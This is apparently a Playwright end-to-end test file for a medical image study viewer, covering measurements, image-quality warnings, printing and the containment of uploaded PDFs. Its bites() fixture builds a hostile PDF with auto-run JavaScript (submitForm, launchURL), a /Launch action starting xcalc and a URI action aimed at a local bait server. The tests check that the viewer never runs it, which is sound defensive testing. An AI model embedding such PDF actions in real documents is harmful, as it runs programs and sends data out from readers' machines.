"""The study viewer in a real browser: lengths, what needs a look, and documents that bite."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import numpy as np
import pytest
from drawn import encoded, exif
from drawn_marker import with_marker
from drawn_pdf import pdf
from e2e_support import axe_violations, type_password
from PIL import Image, ImageFilter
from playwright.sync_api import BrowserContext, Page, expect

from factories import make_capture, make_encounter, make_practitioner, make_source
from hub.bootstrap import build_hub
from hub.model import AuditEvent, Kind, Receipt, Role
from hub.settings import Settings
from hub.store.ports import Account, Registered
from servers.hub import RunningHub, running_hub

pytestmark = pytest.mark.e2e

NOW = datetime.now(UTC).replace(microsecond=0)
MARKER_PIXELS = 200
MARKER_MM = 40.0
PHONE, DESK, READING_ROOM = (390, 844), (1280, 800), (2560, 1440)
LOOKS = [(PHONE, "light"), (PHONE, "dark"), (DESK, "light"), (DESK, "dark"), (READING_ROOM, "dark")]


def scenery(columns: int = 800, rows: int = 600) -> Image.Image:
    """Something to see, in the middle of the range and sharp."""
    noise = np.random.default_rng(3).integers(90, 190, (rows // 4, columns // 4), np.uint8)
    return Image.fromarray(noise).resize((columns, rows), Image.Resampling.BICUBIC).convert("RGB")


@dataclass(frozen=True)
class Viewer:
    """A running hub, what was captured before it started, and somebody who is signed in."""

    hub: RunningHub
    receipts: dict[str, Receipt]
    context: BrowserContext

    def page_of(self, name: str) -> str:
        receipt = self.receipts[name]
        study = f"{self.hub.url}/studies/{receipt.study_instance_uid}"
        return f"{study}?image={receipt.sop_instance_uid}"

    def report_of(self, name: str) -> str:
        return f"{self.hub.url}/images/{self.receipts[name].sop_instance_uid}/report"


@dataclass(frozen=True)
class Bait:
    """A server that nobody has a reason to ask: what it was asked for, it was lured into."""

    url: str
    asked: list[str]


@pytest.fixture(scope="module")
def bait() -> Iterator[Bait]:
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_POST = do_GET  # noqa: N815 - the name the server calls

        def log_message(self, *_: object) -> None:
            """Be quiet."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield Bait(f"http://127.0.0.1:{server.server_port}", asked)
        server.shutdown()


def bites(url: str) -> bytes:
    """A PDF that, where it is let, runs a script when it opens, starts a program and sends."""
    target = url.encode()
    script = b"app.alert\\(1\\); this.submitForm\\('%s/form'\\); app.launchURL\\('%s/url'\\);"
    return pdf(
        b"<< /S /JavaScript /JS (%s) /Next [5 0 R 6 0 R] >>" % (script % (target, target)),
        b"<< /S /Launch /F (/usr/bin/xcalc) >>",
        b"<< /S /URI /URI (%s/link) >>" % target,
        catalog=b"/OpenAction 4 0 R /AA << /WC 5 0 R >> ",
    )


def captures(url: str) -> dict[str, tuple[bytes, dict]]:
    odd = {"scale_marker": True, "captured_at": NOW - timedelta(minutes=50)}
    blurred = scenery().filter(ImageFilter.GaussianBlur(12))
    clock = exif(t9003=f"{NOW - timedelta(hours=6):%Y:%m:%d %H:%M:%S}", t9011="+00:00")
    return {
        "marked": (
            encoded(with_marker(scenery(), MARKER_PIXELS), "JPEG", quality=92),
            {"scale_marker": True},
        ),
        "plain": (encoded(scenery(), "JPEG", quality=92), {}),
        "odd": (encoded(blurred, "JPEG", quality=92, exif=clock), odd),
        "document": (
            bites(url),
            {"kind": Kind.DOCUMENT, "anatomic_region": None, "laterality": None, "note": "Consent"},
        ),
    }


@pytest.fixture(scope="module")
def viewer(
    desk: BrowserContext, bait: Bait, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Viewer]:
    folder = tmp_path_factory.mktemp("viewer")
    hub = build_hub(Settings(data=folder / "data"))
    encounter = make_encounter(started=NOW - timedelta(hours=2))
    hub.catalog.register(Registered(encounters=(encounter,)), AuditEvent("import", by="test"))
    hub.accounts.add(Account("ida", "Berg^Ida", Role.CLINICIAN), "a long enough password")
    receipts = {}
    for minute, (name, (content, changes)) in enumerate(captures(bait.url).items()):
        at = {"captured_at": NOW - timedelta(minutes=30 - minute)}
        capture = make_capture(make_source(folder, content), **{**at, **changes})
        receipts[name] = hub.ingest.capture(capture, make_practitioner())[0]
    hub.measuring.drain()
    hub.catalog.close()
    with running_hub(folder / "data") as running:
        context = desk.browser.new_context(viewport={"width": 1280, "height": 800})
        page = context.new_page()
        type_password(page, running.url, "ida", "a long enough password")
        page.close()
        yield Viewer(running, receipts, context)
        context.close()


@pytest.fixture
def opened(viewer: Viewer) -> Iterator[Callable[..., Page]]:
    pages = []

    def opened(
        name: str, *, report: bool = False, size: tuple[int, int] = DESK, **media: str
    ) -> Page:
        page = viewer.context.new_page()
        page.emulate_media(**media)
        page.set_viewport_size({"width": size[0], "height": size[1]})
        page.goto(viewer.report_of(name) if report else viewer.page_of(name))
        page.wait_for_load_state("networkidle")
        pages.append(page)
        return page

    yield opened
    for page in pages:
        page.close()


def at(page: Page, x: float, y: float) -> tuple[float, float]:
    """Where a pixel of the picture is on the screen: the picture is fitted into its element."""
    image = page.locator(".view img")
    box = image.bounding_box()
    width, height = (int(image.get_attribute(name)) for name in ("width", "height"))
    factor = min(box["width"] / width, box["height"] / height)
    left = box["x"] + (box["width"] - width * factor) / 2
    top = box["y"] + (box["height"] - height * factor) / 2
    return left + x * factor, top + y * factor


def measured(page: Page, start: tuple[float, float], end: tuple[float, float]) -> str:
    page.get_by_role("button", name="measure between two points").click()
    for point in (start, end):
        page.mouse.click(*at(page, *point))
    return page.locator("#measured").inner_text()


class TestMeasuring:
    def test_a_line_over_the_marker_has_its_millimetres(self, opened):
        page = opened("marked")
        half = MARKER_PIXELS / 2

        said = measured(page, (400 - half, 300), (400 + half, 300))

        number, unit = said.split()
        assert unit == "mm"
        assert float(number) == pytest.approx(MARKER_MM, rel=0.03)

    def test_it_is_the_same_however_far_one_has_zoomed(self, opened):
        page = opened("marked", size=PHONE)
        for _ in range(2):
            page.get_by_role("button", name="Zoom in").click()

        said = measured(page, (380, 300), (420, 330))

        assert float(said.split()[0]) == pytest.approx(50 * MARKER_MM / MARKER_PIXELS, rel=0.06)

    def test_without_a_scale_it_is_pixels_and_never_millimetres(self, opened):
        page = opened("plain")

        said = measured(page, (100, 100), (400, 500))

        number, rest = said.split(" ", 1)
        assert rest == "pixels, no scale"
        assert int(number) == pytest.approx(500, abs=4)
        expect(page.locator(".tools")).to_contain_text("px")
        assert "mm" not in page.locator(".view").inner_text()

    def test_the_unit_follows_from_picture_to_picture(self, opened):
        page = opened("marked")
        expect(page.locator("#unit")).to_have_text("mm")

        page.get_by_role("link", name="Next image").click()

        expect(page.locator("#unit")).to_have_text("px")


class TestStage:
    @pytest.mark.parametrize("size", [PHONE, DESK, READING_ROOM])
    def test_nothing_lies_over_the_picture(self, opened, size):
        page = opened("plain", size=size)
        (left, top), (right, bottom) = at(page, 0, 0), at(page, 800, 600)
        assert right - left > 250

        for name in (".tools ul", ".caption"):
            box = page.locator(name).bounding_box()
            apart = box["y"] >= bottom - 1 or box["y"] + box["height"] <= top + 1
            assert apart, f"{name} covers the picture"


class TestNeedsALook:
    @pytest.mark.parametrize(("size", "theme"), LOOKS)
    def test_it_is_read_at_the_image_and_in_its_report(self, opened, size, theme):
        for report in (False, True):
            page = opened("odd", report=report, size=size, color_scheme=theme)
            said = page.locator("main").inner_text()

            assert "Needs a look" in said
            assert "The camera's own clock is 5 hours 10 minutes behind" in said
            assert "May be blurred." in said
            assert "none was found" in said
            assert axe_violations(page) == []
            assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0

    def test_the_strip_says_which_pictures_have_something(self, opened):
        links = opened("plain").get_by_role("navigation", name="All images").get_by_role("link")

        assert links.count() == 3
        assert links.filter(has_text="Needs a look").count() == 1

    def test_it_goes_with_the_picture_it_belongs_to(self, opened):
        page = opened("plain")
        look = page.locator("[data-facts] .look-at")
        expect(look.locator("visible=true")).to_have_count(0)

        page.keyboard.press("ArrowLeft")
        page.keyboard.press("ArrowLeft")
        expect(look.locator("visible=true")).to_have_count(1)


class TestPrint:
    def test_a_study_is_black_on_white_on_a_dark_desk_too(self, opened):
        page = opened("odd", media="print", color_scheme="dark")

        assert "May be blurred." in page.locator(".only-print").inner_text()
        assert page.evaluate("getComputedStyle(document.body).color") == "rgb(0, 0, 0)"

    @pytest.mark.parametrize("name", ["odd", "document"])
    def test_a_report_is_all_there_and_nothing_else(self, opened, viewer, name):
        a4 = (718, 1000)  # less its margins, at 96 dpi
        page = opened(name, report=True, size=a4, media="print", color_scheme="dark")

        said = page.locator("body").inner_text()

        assert "OKAFOR, Grace" in said
        assert viewer.receipts[name].sha256 in said
        assert viewer.receipts[name].study_instance_uid in said
        assert "How to check this" in said
        assert "Worklist" not in said
        assert "Back to the study" not in said
        assert page.evaluate("getComputedStyle(document.body).color") == "rgb(0, 0, 0)"
        assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0


class TestDocument:
    def test_it_is_saved_and_not_opened_wherever_its_address_is_typed(self, opened, bait):
        page = opened("document")
        page.on("dialog", lambda dialog: pytest.fail(f"it said {dialog.message}"))
        before = page.url

        with page.expect_download() as saved:
            page.get_by_role("link", name="Open document").click()

        assert saved.value.suggested_filename == "document.pdf"
        assert Path(saved.value.path()).read_bytes() == bites(bait.url)
        with page.expect_download():
            page.evaluate("address => { location.href = address }", saved.value.url)
        assert page.url == before
        assert bait.asked == []

    @pytest.mark.parametrize("tag", ["iframe", "embed", "object"])
    def test_no_page_can_hold_it(self, opened, viewer, bait, tag):
        page = opened("document")
        address = f"/images/{viewer.receipts['document'].sop_instance_uid}/document"

        page.evaluate(HOLD_IT, [tag, address])
        page.wait_for_load_state("networkidle")

        assert {frame.url for frame in page.frames} <= {page.url, "about:blank", "", BLOCKED}
        assert bait.asked == []

    def test_what_it_would_do_is_said_beside_the_button(self, opened):
        said = opened("document").locator(".panel").inner_text()

        assert "has scripts in it" in said
        assert "asks to start other programs" in said
        assert "links to places outside" in said


BLOCKED = "chrome-error://chromewebdata/"
HOLD_IT = """([tag, address]) => {
  const element = document.createElement(tag);
  element[tag === "object" ? "data" : "src"] = address;
  document.body.append(element);
}"""
